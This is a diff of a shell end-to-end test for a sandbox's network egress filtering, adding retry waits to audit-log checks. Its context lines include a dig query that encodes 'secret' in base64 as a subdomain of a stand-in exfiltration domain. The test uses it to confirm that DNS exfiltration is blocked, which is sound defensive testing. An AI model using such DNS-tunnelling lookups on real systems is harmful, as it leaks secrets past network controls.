@@ -36,7 +36,7 @@ print(urllib.request.urlopen("https://api.test/echo", timeout=5).read().decode()
 expect "IPv6: curl -6 https://api.test/echo works the same" "Bearer $SECRET" \
     curl_in -6 https://api.test/echo
 check "... audited as coming from the sandbox's IPv6 address" \
-    grep -q '"event":"http".*"src":"\[fd00:201:0:' "$RUN_AUDIT"
+    wait_for 3 grep -q '"event":"http".*"src":"\[fd00:201:0:' "$RUN_AUDIT"
 
 # ---- everything else is refused ----
 expect "a name no rule allows does not even resolve" "Could not resolve host" \
@@ -65,7 +65,7 @@ check "... which never reached dnsmasq" bash -c "! grep -q exfil $E2E_TMP/dnsmas
 expect "... and asked over IPv6 (the sandbox's second nameserver)" "status: NXDOMAIN" \
     run sh -c 'dig +time=2 +tries=1 @$(awk "/^nameserver .*:/{print \$2}" /etc/resolv.conf) c2VjcmV0.exfil6.test'
 expect "DNS for the allowed name answers, AAAA too" "$INET6" run dig +short AAAA api.test
-check "the audit file has the allowed request, the denial and the dropped flows" bash -c "
+check "the audit file has the allowed request, the denial and the dropped flows" wait_for 3 bash -c "
     grep -q '\"event\":\"http\".*\"decision\":\"allow\".*\"host\":\"api.test\"' $RUN_AUDIT &&
     grep -q '\"decision\":\"deny\".*\"host\":\"other.test\"' $RUN_AUDIT &&
     grep -q '\"event\":\"flow\".*\"dst\":\"$INET4:22\"' $RUN_AUDIT &&
@@ -183,7 +183,7 @@ check "a flows rule lets tcp/22 and udp/5000 (IPv6) through, and nothing more" \
 check "... the upstream saw them from the host's address (masqueraded twice)" \
     bash -c "grep -q '\"peer\": \"10.201.70.1:' $E2E_TMP/ssh.log &&
              grep -q '\"peer\": \"\[fd00:201:70::1\]' $E2E_TMP/udp.log"
-check "... audited as allowed flows" grep -q '"event":"flow","decision":"allow"' "$RUN_AUDIT"
+check "... audited as allowed flows" wait_for 3 grep -q '"event":"flow","decision":"allow"' "$RUN_AUDIT"
 check "... and afterwards the host's forwarding is off again, nothing left" \
     bash -c "test \"\$(ip netns exec ${NS[host]} sysctl -n net.ipv4.ip_forward)\" = 0" 
 check "... nothing left" test -z "$(run_leftovers)"
